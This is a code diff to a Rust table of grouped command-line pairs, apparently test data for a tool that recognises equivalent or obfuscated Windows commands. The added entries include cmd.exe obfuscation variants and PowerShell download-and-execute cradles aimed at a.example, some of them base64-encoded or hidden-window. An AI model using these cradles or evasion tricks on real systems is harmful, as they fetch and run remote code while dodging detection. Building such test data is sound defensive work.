@@ -39,7 +39,16 @@ const GROUPS: &[&[(&str, &str)]] = &[
         ),
         ("cmd", "/c \"calc.exe\""),
         ("cmd.exe /c calc.exe", ""),
+        ("cmd", "/c c^a\"\"lc.e^xe"),
+        ("cmd", "/c ,;calc.exe"),
+        ("cmd", "/c set x=calc&& call %x%.exe"),
+        ("cmd", "/v:on /c set x=calc.exe&& !x!"),
+        ("cmd", "/c cmd /c calc.exe"),
+        ("cmd", "/c %CommonProgramFiles:~3,0%calc.exe"),
+        ("cmd", "/c start calc.exe"),
     ],
+    // A file, not the program of Windows.
+    &[("cmd", "/c \\\\h.example\\s\\calc.exe")],
     &[
         ("cmd", "/c calc.exe http://a.example/A"),
         ("cmd", "/c Calc.exe HTTP://A.EXAMPLE/A"),
@@ -61,6 +70,38 @@ const GROUPS: &[&[(&str, &str)]] = &[
         ),
     ],
     &[("mshta", "http://a.example/x.hta")],
+    &[
+        (
+            "powershell",
+            "-c IEX (New-Object Net.WebClient).DownloadString('http://a.example/A')",
+        ),
+        (
+            "PowerShell.exe",
+            "-NoP -w hidden -Command iex (new-object net.webclient).downloadstring('http://a.example/A')",
+        ),
+        (
+            "powershell",
+            "-c I`EX (New-Object Net.WebClient).DownloadString('http://a.'+'example/A')",
+        ),
+        (
+            "powershell",
+            "-nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwBBACcAKQA=",
+        ),
+    ],
+    &[(
+        "powershell",
+        "-c IEX (New-Object Net.WebClient).DownloadString('http://a.example/a')",
+    )],
+    &[
+        (
+            "cmd",
+            "/c powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.example/A')\"",
+        ),
+        (
+            "cmd",
+            "/c p^owershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwBBACcAKQA=",
+        ),
+    ],
     &[("excel", "[a.xlsx]Sheet1")],
     &[("excel", "[A.xlsx]Sheet1")],
 ];
